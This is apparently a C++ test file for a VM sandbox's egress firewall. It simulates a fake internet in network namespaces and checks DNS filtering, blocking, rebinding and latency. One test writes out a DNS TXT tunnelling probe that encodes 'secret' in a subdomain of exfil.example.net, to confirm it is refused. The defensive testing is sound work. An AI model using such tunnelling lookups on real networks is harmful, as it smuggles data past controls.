// The egress firewall against a fake internet. For the duration of each test
// the test process itself moves into a fresh network namespace whose only
// link is a veth into a second namespace (`ip netns`) holding the fake hosts
// (192.0.2.0/24, 2001:db8::/64: HTTP on 80/8080, DNS on 192.0.2.53). Neither
// namespace has a default route, so nothing can reach this machine's real
// network; airlock's proxies, QEMU and the janitor all start inside it.

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/wait.h>

#include <gtest/gtest.h>

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <mutex>
#include <thread>

#include "common/fd.h"
#include "common/subprocess.h"
#include "vm/launcher.h"
#include "vm_test_env.h"

namespace airlock::test {
namespace {

/// The namespaces of the fake internet; the calling thread (the test's main
/// thread) lives in the upstream one until destruction.
class FakeInternet {
 public:
  FakeInternet() : name_("airlock-test-inet-" + std::to_string(getpid())) {
    hostNs_.reset(open("/proc/thread-self/ns/net", O_RDONLY | O_CLOEXEC));
    if (!hostNs_ || unshare(CLONE_NEWNET) != 0) {
      error_ = "cannot create the upstream namespace: " + errnoText(errno);
      return;
    }
    entered_ = true;
    const std::string ip = "/usr/sbin/ip";
    for (const std::vector<std::string>& cmd : std::vector<std::vector<std::string>>{
             {ip, "netns", "add", name_},
             {ip, "link", "set", "lo", "up"},
             {ip, "link", "add", "up0", "type", "veth", "peer", "name", "in0", "netns", name_},
             {ip, "addr", "add", "192.0.2.1/24", "dev", "up0"},
             {ip, "-6", "addr", "add", "2001:db8::1/64", "dev", "up0", "nodad"},
             {ip, "link", "set", "up0", "up"},
             {ip, "-n", name_, "link", "set", "lo", "up"},
             {ip, "-n", name_, "addr", "add", "192.0.2.10/24", "dev", "in0"},
             {ip, "-n", name_, "addr", "add", "192.0.2.53/24", "dev", "in0"},
             {ip, "-n", name_, "-6", "addr", "add", "2001:db8::10/64", "dev", "in0", "nodad"},
             {ip, "-n", name_, "link", "set", "in0", "up"}}) {
      if (auto r = runChecked(cmd); !r) {
        error_ = r.error().message;
        return;
      }
    }
    std::string ready = "/tmp/" + name_ + ".ready";
    unlink(ready.c_str());
    std::string python = access("/usr/bin/python3", X_OK) == 0 ? "/usr/bin/python3" : findProgram("python3");
    auto pid = spawnTied({ip, "netns", "exec", name_, python, std::string(AIRLOCK_SOURCE_DIR) + "/tests/egress/fake_internet.py", ready}, {});
    if (!pid) {
      error_ = pid.error().message;
      return;
    }
    servers_ = *pid;
    for (int i = 0; i < 500 && access(ready.c_str(), F_OK) != 0; ++i) usleep(10000);
    unlink(ready.c_str());
  }
  ~FakeInternet() {
    if (servers_ > 0) {
      kill(-servers_, SIGKILL);
      kill(servers_, SIGKILL);
      waitpid(servers_, nullptr, 0);
    }
    if (entered_) {
      (void)runCommand({"/usr/sbin/ip", "netns", "del", name_});
      setns(hostNs_.get(), CLONE_NEWNET);
    }
  }
  const std::string& error() const { return error_; }

 private:
  std::string name_;
  Fd hostNs_;
  bool entered_ = false;
  pid_t servers_ = -1;
  std::string error_;
};

/// A TCP service on the upstream namespace's 127.0.0.1 (the "host's loopback").
class LoopbackService {
 public:
  LoopbackService() {
    listener_.reset(socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0));
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    socklen_t len = sizeof addr;
    bind(listener_.get(), reinterpret_cast<sockaddr*>(&addr), sizeof addr);
    listen(listener_.get(), 8);
    getsockname(listener_.get(), reinterpret_cast<sockaddr*>(&addr), &len);
    port_ = ntohs(addr.sin_port);
    thread_ = std::thread([this] {
      for (;;) {
        Fd c(accept4(listener_.get(), nullptr, nullptr, SOCK_CLOEXEC));
        if (!c) return;
        char buf[1024];
        (void)!read(c.get(), buf, sizeof buf);
        writeAll(c.get(), "HTTP/1.0 200 OK\r\n\r\nhost-service\n");
      }
    });
  }
  ~LoopbackService() {
    shutdown(listener_.get(), SHUT_RDWR);
    thread_.join();
  }
  uint16_t port() const { return port_; }

 private:
  Fd listener_;
  uint16_t port_ = 0;
  std::thread thread_;
};

class FakeInternetTest : public testing::Test {
 protected:
  void SetUp() override {
    SKIP_WITHOUT_VMS();
    internet_ = std::make_unique<FakeInternet>();
    ASSERT_EQ(internet_->error(), "");
    service_ = std::make_unique<LoopbackService>();
    state_ = freshStateDir();
    vm::LaunchOptions options;
    options.rootfsDir = testRootfs();
    auto policy = egress::buildPolicy(profile(), {"allowed.example.com", "rebind.example.com"}, {}, {},
                                      {{service_->port(), 8000}});
    ASSERT_TRUE(policy);
    options.egress = *policy;
    options.egressNetwork.resolver = egress::IpAddress::parse("192.0.2.53");
    options.egressNetwork.logPath = state_ + "/egress.log";
    auto machine = vm::Machine::launch(options);
    ASSERT_TRUE(machine) << machine.error().message;
    machine_ = std::move(*machine);
  }
  void TearDown() override {
    if (machine_) machine_->stop();
    machine_.reset();
    service_.reset();
    internet_.reset();
    auto left = runCommand({"/usr/sbin/ip", "netns", "list"});
    ASSERT_TRUE(left);
    EXPECT_EQ(left->stdoutText.find("airlock-test-inet"), std::string::npos) << left->stdoutText;
  }
  virtual egress::Profile profile() const { return egress::Profile::kLocked; }
  /// Microseconds for a DNS lookup, then the first HTTP exchange with
  /// allowed.example.com, each minus the cost of running an empty guest
  /// command (median of 5 rounds).
  std::pair<long, long> measureFirstConnection() {
    using Clock = std::chrono::steady_clock;
    auto us = [](Clock::duration d) { return static_cast<long>(std::chrono::duration_cast<std::chrono::microseconds>(d).count()); };
    std::vector<long> dns, http;
    for (int i = 0; i < 5; ++i) {
      auto t0 = Clock::now();
      sh("nslookup -type=A allowed.example.com");
      auto t1 = Clock::now();
      std::string body = get("192.0.2.10", 80, "allowed.example.com");
      auto t2 = Clock::now();
      sh("true");
      auto t3 = Clock::now();
      if (body.find("fake-internet") == std::string::npos) return {-1, -1};
      dns.push_back(us(t1 - t0) - us(t3 - t2));
      http.push_back(us(t2 - t1) - us(t3 - t2));
    }
    std::sort(dns.begin(), dns.end());
    std::sort(http.begin(), http.end());
    return {dns[2], http[2]};
  }
  std::string sh(const std::string& script) {
    protocol::ExecRequest r;
    r.argv = {"sh", "-c", script};
    r.env = {"PATH=/usr/sbin:/usr/bin:/sbin:/bin"};
    auto output = std::make_shared<std::string>();
    auto mutex = std::make_shared<std::mutex>();
    vm::OutputHandlers handlers;
    handlers.onStdout = handlers.onStderr = [output, mutex](std::string_view d) {
      std::lock_guard lock(*mutex);
      output->append(d);
    };
    auto cmd = machine_->vm().control().exec(r, handlers);
    if (!cmd) return cmd.error().message;
    (void)(*cmd)->wait();
    std::lock_guard lock(*mutex);
    return *output;
  }
  /// HTTP GET to ADDRESS:PORT with Host: HOST, via busybox nc.
  std::string get(const std::string& address, int port, const std::string& host) {
    return sh("printf 'GET / HTTP/1.0\\r\\nHost: " + host + "\\r\\n\\r\\n' | nc -w 5 " + address + " " +
              std::to_string(port) + " 2>&1");
  }
  std::unique_ptr<FakeInternet> internet_;
  std::unique_ptr<LoopbackService> service_;
  std::string state_;
  std::unique_ptr<vm::Machine> machine_;
};

const char* kAllowedBody = "fake-internet host=allowed.example.com";

TEST_F(FakeInternetTest, AllowedNameOverIpv4AndIpv6) {
  std::string lookup = sh("nslookup -type=A allowed.example.com; nslookup -type=AAAA allowed.example.com");
  EXPECT_NE(lookup.find("192.0.2.10"), std::string::npos) << lookup;
  EXPECT_NE(lookup.find("2001:db8::10"), std::string::npos) << lookup;
  EXPECT_NE(get("192.0.2.10", 80, "allowed.example.com").find(kAllowedBody), std::string::npos);
  EXPECT_NE(get("2001:db8::10", 80, "allowed.example.com").find(kAllowedBody), std::string::npos);
}

TEST_F(FakeInternetTest, LiteralBeforeLookupDeniedNameWrongHostAndPortAreBlocked) {
  // Nothing answered yet: the address is not in the session's book.
  EXPECT_EQ(get("192.0.2.10", 80, "allowed.example.com").find("fake-internet"), std::string::npos);
  std::string denied = sh("nslookup other.example.com");
  EXPECT_NE(denied.find("NXDOMAIN"), std::string::npos) << denied;
  EXPECT_EQ(denied.find("192.0.2.10"), std::string::npos) << denied;
  sh("nslookup allowed.example.com");
  // Same (shared) IP, but the Host header names an unlisted host.
  EXPECT_EQ(get("192.0.2.10", 80, "other.example.com").find("fake-internet"), std::string::npos);
  // Allowed name on a port it is not allowed on.
  EXPECT_EQ(get("192.0.2.10", 8080, "allowed.example.com").find("fake-internet"), std::string::npos);
  // Another resolver (UDP and TCP 53) gets nothing.
  std::string other = sh("nslookup -timeout=2 -retry=1 allowed.example.com 192.0.2.53");
  EXPECT_EQ(other.find("192.0.2.10"), std::string::npos) << other;
  // The allowed path still works.
  EXPECT_NE(get("192.0.2.10", 80, "allowed.example.com").find(kAllowedBody), std::string::npos);
}

TEST_F(FakeInternetTest, TxtTunnellingIsRefused) {
  std::string txt = sh("nslookup -type=TXT c2VjcmV0.exfil.example.net");
  EXPECT_NE(txt.find("REFUSED"), std::string::npos) << txt;
  EXPECT_NE(sh("nslookup allowed.example.com").find("192.0.2.10"), std::string::npos);
}

TEST_F(FakeInternetTest, RebindingAnswerIsDropped) {
  std::string lookup = sh("nslookup rebind.example.com");
  EXPECT_EQ(lookup.find("127.0.0.1"), std::string::npos) << lookup;
  EXPECT_EQ(lookup.find("10.1.2.3"), std::string::npos) << lookup;
  sh("nslookup allowed.example.com");
  EXPECT_NE(get("192.0.2.10", 80, "allowed.example.com").find(kAllowedBody), std::string::npos);
}

TEST_F(FakeInternetTest, ProxyStoppedMeansNoNewConnections) {
  sh("nslookup allowed.example.com");
  EXPECT_NE(get("192.0.2.10", 80, "allowed.example.com").find(kAllowedBody), std::string::npos);
  machine_->network()->stopEgressProxy();
  EXPECT_EQ(get("192.0.2.10", 80, "allowed.example.com").find("fake-internet"), std::string::npos);
}

TEST_F(FakeInternetTest, HostPortReachesOnlyTheMappedPort) {
  EXPECT_NE(get("10.0.2.2", 8000, "x").find("host-service"), std::string::npos);
  EXPECT_EQ(get("10.0.2.2", service_->port(), "x").find("host-service"), std::string::npos);
  EXPECT_EQ(get("10.0.2.2", 8001, "x").find("host-service"), std::string::npos);
  EXPECT_NE(get("fd00:a1::1", 8000, "x").find("host-service"), std::string::npos);
}

TEST_F(FakeInternetTest, ReportsConnectionSetupLatencyLocked) {
  auto [dns, http] = measureFirstConnection();
  ASSERT_GT(dns, 0);
  RecordProperty("dns_us", static_cast<int>(dns));
  RecordProperty("http_us", static_cast<int>(http));
  std::printf("egress latency (locked): dns lookup %ld us, first HTTP exchange %ld us\n", dns, http);
}

class PermissiveFakeInternetTest : public FakeInternetTest {
 protected:
  egress::Profile profile() const override { return egress::Profile::kPermissive; }
};

TEST_F(PermissiveFakeInternetTest, ReportsConnectionSetupLatencyPermissive) {
  auto [dns, http] = measureFirstConnection();
  ASSERT_GT(dns, 0);
  std::printf("egress latency (permissive): dns lookup %ld us, first HTTP exchange %ld us\n", dns, http);
  // Permissive still goes through the proxy but admits any destination.
  EXPECT_NE(get("192.0.2.10", 8080, "anything.example.net").find("fake-internet"), std::string::npos);
}

}  // namespace
}  // namespace airlock::test
